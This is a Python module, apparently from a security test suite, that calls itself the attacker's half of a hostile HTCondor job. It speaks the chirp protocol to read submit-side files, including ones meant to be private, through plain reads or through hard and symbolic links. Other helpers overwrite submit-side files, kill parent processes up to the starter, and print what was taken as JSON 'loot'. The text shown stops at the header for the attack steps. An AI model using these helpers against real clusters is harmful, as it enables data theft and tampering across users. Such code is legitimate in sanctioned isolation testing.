"""The attacker's half: what a hostile job does at the worker node. The job's script is this file and a few lines more.

It speaks HTCondor's chirp protocol itself (the starter's socket), looks for the submission's files under the
names of every layout there was, and prints what it got as one line of JSON.
"""

import json
import os
import socket
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

AD = os.environ.get("_CONDOR_JOB_AD") or ".job.ad"
HERE = os.environ.get("_CONDOR_SCRATCH_DIR") or "."


def attribute(name: str, place: str = AD) -> str:
    """An attribute of a job's ad, as its text without quotes; empty for none."""
    with open(place) as ad:
        found = [line.partition(" = ")[2].strip() for line in ad if line.startswith(name + " = ")]
    return found[0].strip('"') if found else ""


def is_first_run() -> bool:
    """Whether no run of this job has started before."""
    return attribute("NumJobStarts") in ("", "0")


def config() -> str:
    """The file that says where the starter listens; empty for none."""
    places = (os.environ.get("_CONDOR_CHIRP_CONFIG", ""), HERE + "/.chirp.config", ".chirp.config")
    return next((place for place in places if place and os.path.exists(place)), "")


class Chirp:
    """One question to the starter; each has a connection of its own, because a denied one may end it."""

    def __init__(self, place: str = "") -> None:
        host, port, cookie = Path(place or config()).read_text().split()
        self.socket = socket.create_connection((host, int(port)), 4)
        self.stream = self.socket.makefile("rwb")
        self.ask("cookie", cookie)

    def ask(self, *words: object) -> int:
        """Send a line, and give back the number that comes as the answer."""
        text = " ".join(str(word).replace("\\", "\\\\").replace(" ", "\\ ") for word in words)
        self.stream.write(text.encode() + b"\n")
        self.stream.flush()
        return int(self.stream.readline())


def ask(*words: object, place: str = "") -> int | None:
    """The number that comes as the answer; None when there is none to ask."""
    try:
        return Chirp(place).ask(*words)
    except (OSError, ValueError):
        return None


def get(path: str, place: str = "") -> str:
    """A file of the submit side, or a directory's names; empty for neither."""
    for verb in ("getfile", "getlongdir", "getdir"):
        try:
            chirp = Chirp(place)
            size = chirp.ask(verb, path)
            if size > 0:
                return chirp.stream.read(size).decode(errors="replace")
        except (OSError, ValueError):
            pass
    return ""


def put(path: str, text: str, place: str = "", mode: int = 0o700) -> bool:
    """Write a file of the submit side; whether that was permitted."""
    try:
        chirp = Chirp(place)
        if chirp.ask("putfile", path, mode, len(text.encode())) < 0:
            return False
        chirp.stream.write(text.encode())
        chirp.stream.flush()
        return int(chirp.stream.readline()) >= 0
    except (OSError, ValueError):
        return False


def corners(place: str = AD) -> list[str]:
    """The directories that the job may reach, as its ad names them, and those that its files come from."""
    named = attribute("LimitDirectoryAccess", place).split(",")
    sent = [
        os.path.dirname(each.strip().rstrip("/"))
        for each in attribute("TransferInput", place).split(",")
    ]
    words = [*named, *sent, attribute("Iwd", place), os.path.dirname(attribute("Out", place))]
    return list(dict.fromkeys(word for word in words if word.startswith("/")))


def bundles(place: str = AD) -> list[str]:
    """The directories that may be the submission's bundle."""
    uuid = attribute("HepSub_UUID", place)
    if not uuid:
        return []
    found = [corner.partition(uuid)[0] + uuid for corner in corners(place) if uuid in corner]
    return list(dict.fromkeys(found))


def own(place: str = AD) -> list[str]:
    """The job's own corner of the bundle in each layout."""
    proc = attribute("ProcId", place)
    return [f"{bundle}/{each}" for bundle in bundles(place) for each in (f"job/{proc}", proc)]


def private(name: str, place: str = AD) -> list[str]:
    """Where a file that no job may reach is in each layout."""
    return [f"{bundle}/{each}{name}" for bundle in bundles(place) for each in ("", "private/")]


def steal(path: str, place: str = "") -> str:
    """A file of the submit side by every way there is: plainly, by a second link in the own corner, by a symlink."""
    if text := get(path, place):
        return text
    for corner in corners():
        for verb in ("link", "symlink"):
            name = f"{corner}/{verb}.{path.rpartition('/')[2]}.{time.time()}"
            if ask(verb, path, name, place=place) == 0 and (text := get(name, place)):
                return text
    return ""


def spoil(path: str, text: str, place: str = "") -> bool:
    """Change a file of the submit side by every way there is."""
    for corner in corners():
        name = f"{corner}/spoil.{path.rpartition('/')[2]}.{time.time()}"
        if ask("link", path, name, place=place) == 0:  # it exists: through a second link
            return put(name, text, place)
        if put(name, text, place) and ask("link", name, path, place=place) == 0:
            return True
    return False


def end_the_wrapper() -> None:
    """Kill what started this script, up to HTCondor's starter, so that nobody else writes what comes home."""
    pid = os.getppid()
    while pid > 1:
        with open(f"/proc/{pid}/status") as status:
            facts = dict(line.rstrip().split(":\t", 1) for line in status if ":\t" in line)
        if int(facts["Uid"].split()[0]) != os.getuid() or "condor_starter" in facts["Name"]:
            break
        os.kill(pid, 9)
        pid = int(facts["PPid"])


def wait_for(condition: Callable[[], Any], seconds: float) -> Any:
    """Ask again and again, up to so many seconds; the last answer."""
    end = time.time() + seconds
    while not (answer := condition()) and time.time() < end:
        time.sleep(0.3)
    return answer


def tell(**loot: object) -> None:
    """Print what was got."""
    print(json.dumps({"loot": loot}))
    sys.stdout.flush()


# ---- what the attacker does -----------------------------------------------------------------------
